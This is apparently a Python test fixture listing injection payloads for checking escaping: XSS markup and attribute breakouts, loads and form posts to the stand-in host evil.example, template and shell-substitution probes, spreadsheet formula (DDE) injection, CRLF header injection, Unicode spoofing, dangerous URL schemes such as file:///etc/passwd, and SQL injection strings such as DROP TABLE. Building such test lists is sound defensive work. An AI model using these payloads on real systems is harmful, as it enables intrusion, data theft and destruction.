"""Words that try to get out of where they are shown, in our own spelling of what is publicly known (OWASP's and PortSwigger's cheat sheets).

Each calls `pwned(…)`, opens a dialog, asks another machine, or breaks a form, where it is let.
"""
from __future__ import annotations

MARKUP = (
    "<script>pwned(1)</script>", "<ScRiPt>pwned(2)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\x0cdefer>pwned(3)</script>",
    "</script><script>pwned(4)</script>", "</title><script>pwned(5)</script>", "</textarea><img src=x onerror=pwned(6)>",
    "</style><script>pwned(7)</script>",
    "--><script>pwned(8)</script>", "]]><script>pwned(9)</script>", "<img src=x onerror=pwned(10)>", "<img/src=`x`onerror=pwned(11)>",
    "<img src=https://evil.example/pixel.gif>", "<svg onload=pwned(12)>", "<svg><script>pwned(13)</script></svg>",
    "<svg><animate onbegin=pwned(14) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned(15)><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(16)>", "<math href=javascript:pwned(17)>x</math>", "<body onload=pwned(18)>",
    "<details open ontoggle=pwned(19)>x</details>", "<input autofocus onfocus=pwned(20)>", "<video><source onerror=pwned(21)></video>",
    "<audio src=x onerror=pwned(22)>", "<marquee onstart=pwned(23)>x</marquee>", "<iframe src=javascript:pwned(24)></iframe>",
    "<iframe srcdoc='<script>parent.pwned(25)</script>'></iframe>", "<object data=data:text/html,<script>pwned(26)</script>></object>",
    "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><button>x</button></form>",
    "<template><script>pwned(27)</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned(28)>'>",
    "<x onclick=pwned(29) style=position:fixed;inset:0>x</x>",
    "<a href=javascript:pwned(30)>x</a>", "<a href=\"data:text/html,<script>pwned(31)</script>\">x</a>", "<portal src=//evil.example>",
    "<plaintext>", "<xmp>", "<!--", "<![CDATA[")
ATTRIBUTES = (
    "\" onmouseover=pwned(40) x=\"", "' onfocus=pwned(41) autofocus x='", "\" autofocus onfocus=pwned(42) \"", "` onclick=pwned(43) `",
    "x\" style=\"background:url(//evil.example/x)",
    "\"><svg/onload=pwned(44)>", "'><svg/onload=pwned(45)>", "\"/><script>pwned(46)</script>", "x' href='javascript:pwned(47)")
ENTITIES = (
    "&lt;script&gt;pwned(50)&lt;/script&gt;", "&#60;script&#62;pwned(51)&#60;/script&#62;", "&#x3c;img src=x onerror=pwned(52)&#x3e;",
    "&amp;lt;script&amp;gt;pwned(53)",
    "%3Cscript%3Epwned(54)%3C/script%3E", "\\u003cscript\\u003epwned(55)\\u003c/script\\u003e", "\uff1cscript\uff1epwned(56)\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned(57)+ADw-/script+AD4-")
TEMPLATES = (
    "{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>",
    "{7*7}", "{0.__class__}", "%(secret)s", "$(touch /tmp/x)",
    "`touch /tmp/x`", "@cooperation", "datum.x", "{\"signal\": \"pwned(60)\"}", "[object Object]", "constructor.constructor('pwned(61)')()", "__proto__")
STYLES = ("expression(pwned(70))", "url(javascript:pwned(71))", "@import '//evil.example/x.css';", "</style>*{background:url(//evil.example/y)}",
    "x;background:url(//evil.example/z)")
LINES = ("x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>pwned(80)</script>", "x\nLocation: //evil.example/", "BEGIN:VEVENT\nSUMMARY:x",
    "x\nEND:VCALENDAR\nBEGIN:VCALENDAR", "x\x0bb\x0cc", "x\x85y\u2028z")
TURNED = ("\u202eexe.txt", "\u2066abc\u2069\u202d", "a\u200b\u200cb\ufeffc", "e" + "\u0301" * 40,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>x</b>", "\U000e0041\U000e0042")
FORMULAS = ("=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
            "\uff1d1+1", "\uff0b1", "=IMPORTXML(\"//evil.example\",\"x\")", "%0A=1+1", ";=1+1", "\"=1+1\"", "' =1+1")

PAYLOADS = (*MARKUP, *ATTRIBUTES, *ENTITIES, *TEMPLATES, *STYLES, *LINES, *TURNED, *FORMULAS)

ADDRESSES = (
    "javascript:pwned(90)", "JaVaScRiPt:pwned(91)", " javascript:pwned(92)", "java\tscript:pwned(93)", "\x01javascript:pwned(94)",
    "data:text/html,<script>pwned(95)</script>",
    "vbscript:pwned(96)", "file:///etc/passwd", "blob:https://evil.example/x", "about:blank", "//evil.example/", "https:evil.example",
    "http:/\\evil.example", "ftp://evil.example/",
    "view-source:https://evil.example/", "feed:javascript:pwned(97)", "javascript://https://x.example/%0apwned(98)",
    "https://x.example/\" onclick=pwned(99) x=\"")
"""Addresses that must be no link, or (the last) a link and no more."""

SQL = ("'", "''", "\"",
    "\\", "';--", "'; DROP TABLE report;--", "' OR '1'='1", "1; DELETE FROM report", "' UNION SELECT text FROM report--", "%' AND 1=randomblob(1000000000)--",
       "') OR 1=1--", "\x00", "$1", ":x", "?", "%s", "NULL", "1e999", "' || (SELECT 1) || '", "pg_sleep(10)",
    "'; ATTACH DATABASE '/tmp/x.db' AS x;--", "*", "\" OR text MATCH \"a")
